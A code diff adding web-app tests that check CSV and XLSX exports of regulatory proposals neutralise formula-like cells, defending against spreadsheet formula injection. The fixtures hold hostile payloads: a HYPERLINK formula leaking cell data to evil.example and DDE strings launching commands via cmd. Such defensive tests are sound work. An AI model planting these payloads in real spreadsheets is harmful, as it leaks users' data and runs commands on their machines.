@@ -6,13 +6,13 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { IMPORT_COLUMNS } from "~/services/import/layout";
 import { seedDemoData } from "../../db/seed";
 import { PROJECT_ROOT } from "../support/database";
-import { createUserWith, type TestUser } from "../support/factories";
+import { createUserWith, proposalFields, type TestUser } from "../support/factories";
 import { client, decodeHtml, fieldError, mainContent, signedInClient, visibleText, type Client } from "../support/http";
 import { startServer, type TestServer } from "../support/server";
 
 // The import pages over HTTP on the demo data: upload → dry-run report → confirm, the template,
 // who may import what, the file limits, and the round trip: a list exported as CSV or XLSX
-// and imported back changes nothing.
+// and imported back changes nothing, formula-like cells included.
 
 let server: TestServer;
 let admin: TestUser;
@@ -99,6 +99,123 @@ describe("the template", () => {
   });
 });
 
+describe("cells a spreadsheet would run as formulas", () => {
+  // planted through the proposal form and through an import, as an attacker would
+  const planted = {
+    title: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
+    proposed_change: "+cmd|' /C calc'!A0",
+    rationale: "@SUM(1+1)*cmd|' /C calc'!A0",
+    source_provision: "-2+3+cmd|' /C calc'!A0",
+  };
+  const imported = {
+    title: "@SUM(A1:A9)",
+    proposed_change: "-2+3+cmd|' /C calc'!A0",
+    rationale: "'=1+1 written with its apostrophe",
+    provisions_to_amend: "=Điều 5",
+  };
+  let formCode: string;
+  let importCode: string;
+
+  beforeAll(async () => {
+    const http = await signedInClient(server.url, officer);
+    const created = await http.post("/proposals/new", proposalFields("BYT", { ...planted, cost_before_vnd: "1.000.000", cost_after_vnd: "0" }));
+    expect(created.status).toBe(302);
+    formCode = (created.headers.get("location") ?? "").replace("/proposals/", "");
+    const rows = [
+      IMPORT_COLUMNS.map((column) => column.header),
+      IMPORT_COLUMNS.map(
+        (column) =>
+          ({
+            agency: "BYT",
+            regulation_type: "Thủ tục hành chính",
+            action: "Bãi bỏ",
+            documents_to_amend: "98/2021/NĐ-CP",
+            ...imported,
+            // the file's own apostrophe before a formula is a person's way to write text: it is not kept
+            rationale: `'${imported.rationale}`,
+          })[column.key as string] ?? "",
+      ),
+    ];
+    const { path, html } = await upload(http, "cong-thuc.csv", new TextEncoder().encode(Papa.unparse(rows)));
+    expect(count(html, "new")).toBe(1);
+    expect((await http.post(path, { intent: "confirm" })).status).toBe(302);
+    const stored = await server.db().selectFrom("proposals").select(["code", "title", "rationale"]).where("title", "=", imported.title).executeTakeFirstOrThrow();
+    expect(stored.rationale).toBe(imported.rationale);
+    importCode = stored.code;
+  });
+
+  test("the CSV export writes them as text: an apostrophe first, amounts still plain numbers", async () => {
+    const http = await signedInClient(server.url, admin);
+    const text = (await (await http.get("/proposals/export.csv?agency=BYT")).text()).replace(/^\uFEFF/, "");
+    const [header = [], ...rows] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
+    const column = (name: string) => header.indexOf(IMPORT_COLUMNS.find((c) => c.key === name)?.header ?? name);
+    const formRow = rows.find((row) => row[0] === formCode) ?? [];
+    for (const [key, value] of Object.entries(planted)) expect(formRow[column(key)], key).toBe(`'${value}`);
+    expect(formRow[column("cost_before_vnd")]).toBe("1000000");
+    expect(formRow[column("cost_after_vnd")]).toBe("0");
+    const importRow = rows.find((row) => row[0] === importCode) ?? [];
+    expect(importRow[column("title")]).toBe(`'${imported.title}`);
+    expect(importRow[column("proposed_change")]).toBe(`'${imported.proposed_change}`);
+    expect(importRow[column("rationale")]).toBe(`''${imported.rationale.slice(1)}`);
+    expect(importRow[column("provisions_to_amend")]).toBe(`'${imported.provisions_to_amend}`);
+    // no text cell of the whole file starts a formula
+    for (const row of rows) for (const cell of row) expect(cell, `${row[0]}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  test("the XLSX export writes them as string cells, which Excel shows as text and never runs", async () => {
+    const http = await signedInClient(server.url, admin);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await http.get("/proposals/export.xlsx?agency=BYT")).arrayBuffer());
+    const sheet = workbook.worksheets[0]!;
+    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
+    const column = (name: string) => headers.indexOf(IMPORT_COLUMNS.find((c) => c.key === name)?.header) + 1;
+    let formRow: ExcelJS.Row | undefined;
+    sheet.eachRow((row) => {
+      if (row.getCell(1).value === formCode) formRow = row;
+      row.eachCell((cell) => expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula));
+    });
+    for (const [key, value] of Object.entries(planted)) {
+      const cell = formRow!.getCell(column(key));
+      expect(cell.type, key).toBe(ExcelJS.ValueType.String);
+      expect(cell.value, key).toBe(value);
+    }
+    expect(formRow!.getCell(column("cost_before_vnd")).value).toBe(1_000_000);
+  });
+
+  test("the errors CSV of an import writes a bad value that looks like a formula as text", async () => {
+    const http = await signedInClient(server.url, officer);
+    const rows = [
+      IMPORT_COLUMNS.map((column) => column.header),
+      IMPORT_COLUMNS.map(
+        (column) =>
+          ({ agency: "BYT", regulation_type: "Thủ tục hành chính", title: "Quy định B", action: "Bãi bỏ", proposed_change: "Bỏ", cost_before_vnd: "=1+1" })[
+            column.key as string
+          ] ?? "",
+      ),
+    ];
+    const { path } = await upload(http, "loi-cong-thuc.csv", new TextEncoder().encode(Papa.unparse(rows)));
+    const csv = Papa.parse<string[]>((await (await http.get(`${path}/errors.csv`)).text()).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
+    expect(csv[1]?.slice(0, 3)).toEqual(["2", "Chi phí tuân thủ trước (đồng/năm)", "'=1+1"]);
+  });
+
+  test.each(["csv", "xlsx"])("the proposal list exported as %s and imported back changes nothing", async (format) => {
+    const http = await signedInClient(server.url, admin);
+    const exported = await http.get(`/proposals/export.${format}`);
+    expect(exported.status).toBe(200);
+    const bytes = new Uint8Array(await exported.arrayBuffer());
+    const total = (await server.db().selectFrom("proposals").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n;
+    const before = await eventCount();
+    const { path, html } = await upload(http, `danh-sach.${format}`, bytes);
+    expect(count(html, "unchanged")).toBe(Number(total));
+    expect(count(html, "new") + count(html, "updated") + count(html, "invalid")).toBe(0);
+    expect(visibleText(mainContent(html))).toContain("Tệp không có thay đổi nào");
+    expect((await http.post(path, { intent: "confirm" })).status).toBe(302);
+    expect(visibleText(mainContent(await (await http.get(path)).text()))).toContain("Đã nhập tệp");
+    expect(await eventCount()).toBe(before);
+  });
+
+});
+
 describe("upload, check, confirm", () => {
   test("a file with errors shows each with its row, column, value and message, offers no confirmation and writes nothing", async () => {
     const http = await signedInClient(server.url, officer);
@@ -154,22 +271,6 @@ describe("upload, check, confirm", () => {
     const { html } = await upload(http, "sample-plan.csv", bytes);
     expect(count(html, "unchanged")).toBe(12);
     expect(count(html, "new") + count(html, "updated") + count(html, "invalid")).toBe(0);
-  });
-
-  test.each(["csv", "xlsx"])("the proposal list exported as %s and imported back changes nothing", async (format) => {
-    const http = await signedInClient(server.url, admin);
-    const exported = await http.get(`/proposals/export.${format}`);
-    expect(exported.status).toBe(200);
-    const bytes = new Uint8Array(await exported.arrayBuffer());
-    const total = (await server.db().selectFrom("proposals").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n;
-    const before = await eventCount();
-    const { path, html } = await upload(http, `danh-sach.${format}`, bytes);
-    expect(count(html, "unchanged")).toBe(Number(total));
-    expect(count(html, "new") + count(html, "updated") + count(html, "invalid")).toBe(0);
-    expect(visibleText(mainContent(html))).toContain("Tệp không có thay đổi nào");
-    expect((await http.post(path, { intent: "confirm" })).status).toBe(302);
-    expect(visibleText(mainContent(await (await http.get(path)).text()))).toContain("Đã nhập tệp");
-    expect(await eventCount()).toBe(before);
   });
 
   test("confirming writes the rows, names the import in their history, and a second confirmation is refused", async () => {
